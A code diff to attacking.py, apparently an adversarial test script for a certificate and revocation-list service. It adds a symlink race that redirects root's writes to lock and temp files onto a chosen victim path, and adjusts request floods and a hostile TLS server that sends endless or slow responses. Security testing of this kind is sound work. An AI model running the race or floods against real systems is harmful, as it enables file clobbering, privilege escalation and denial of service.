@@ -5,6 +5,7 @@
     attacking.py refused URL CACERT ADDRESS..             asks for what is refused, 1,001 times from each address
     attacking.py front PEM CACERT PORT                    answers each request with something hostile, over TLS
     attacking.py clients URL                              runs the client before such a front, and measures it
+    attacking.py race FOLDER VICTIM                       puts a link to VICTIM wherever root writes in a folder
 
 The first two print how many answers had which status."""
 import collections
@@ -66,17 +67,42 @@ def counted(senders, asked):
 
 
 def flood(url, cacert, pem, department, count):
+    """The name in a key ID has up to 64 letters."""
+    def message(number):
+        name = f"{os.getpid()}-{number}"
+        return "POST", f"/v1/requests/{name}", f"revoke-keyid {department}/{name:x<64}\n".encode()
     senders = [Sender(url, cacert, pem) for _ in range(SENDERS)]
-    counted(senders, lambda number: (
-        ("POST", f"/v1/requests/{os.getpid()}-{it}", f"revoke-keyid {department}/nobody-{os.getpid()}-{it}\n".encode())
-        for it in range(number, int(count), SENDERS)))
+    counted(senders, lambda first: map(message, range(first, int(count), SENDERS)))
 
 
 def refused(url, cacert, *addresses):
-    """The longest line of the log: a path with bytes that it writes as four letters each."""
-    path = "/v1/requests/" + 100 * "\xe9"
     senders = [Sender(url, cacert, source=it) for it in addresses]
-    counted(senders, lambda _: FROM_EACH * [("GET", urllib.parse.quote(path, safe="/"))])
+    counted(senders, lambda _: FROM_EACH * [("GET", "/v1/table")])
+
+
+# ---- a folder of one's own
+
+def race(folder, victim):
+    """What fetch-list has written of a statement counts once the list itself comes; what fetch-ca-keys writes, at once.
+    """
+    os.chdir(folder)
+    for name in (".revoked.krl.lock", ".cas.pub.lock", "list.prom", "host-cert.new.pub", "host-cert.copy.pub"):
+        with contextlib.suppress(FileExistsError):
+            os.symlink(victim, name)
+    while True:
+        names = os.listdir()
+        for it in names:
+            is_statement = it.startswith("revoked.krl.new.") and it.endswith(".s")
+            if it.startswith("cas.pub.new.") or is_statement and it.removesuffix(".s") in names:
+                replace(it, victim)
+
+
+def replace(name, victim):
+    with contextlib.suppress(OSError):
+        if not os.path.islink(name):
+            os.unlink(name)
+            os.symlink(victim, name)
+            print(json.dumps({"replaced": name}), flush=True)
 
 
 # ---- a false front
@@ -98,10 +124,9 @@ class Hostile(http.server.BaseHTTPRequestHandler):
         for it in pieces:
             self.wfile.write(it)
 
-    def endless(self, piece, pause=0):
+    def endless(self, piece):
         while True:
             self.wfile.write(piece)
-            time.sleep(pause)
 
     def redirect(self):
         self.send("302 Found", "location: https://127.0.0.1/\r\ncontent-encoding: gzip\r\n")
@@ -116,8 +141,11 @@ class Hostile(http.server.BaseHTTPRequestHandler):
         self.endless(bytes(1 << 16))
 
     def drip(self):
-        self.send("200 OK", "content-length: 1000000\r\n")
-        self.endless(b"x", 0.5)
+        """For three minutes."""
+        self.send("200 OK", "content-length: 1000\r\n")
+        for _ in range(360):
+            self.wfile.write(b"x")
+            time.sleep(0.5)
 
     def steer(self):
         text = STEERING.encode()
@@ -162,4 +190,4 @@ def clients(url):
 
 if __name__ == "__main__":
     BEGUN = time.monotonic()
-    {it.__name__: it for it in (flood, refused, front, clients)}[sys.argv[1]](*sys.argv[2:])
+    {it.__name__: it for it in (flood, refused, race, front, clients)}[sys.argv[1]](*sys.argv[2:])
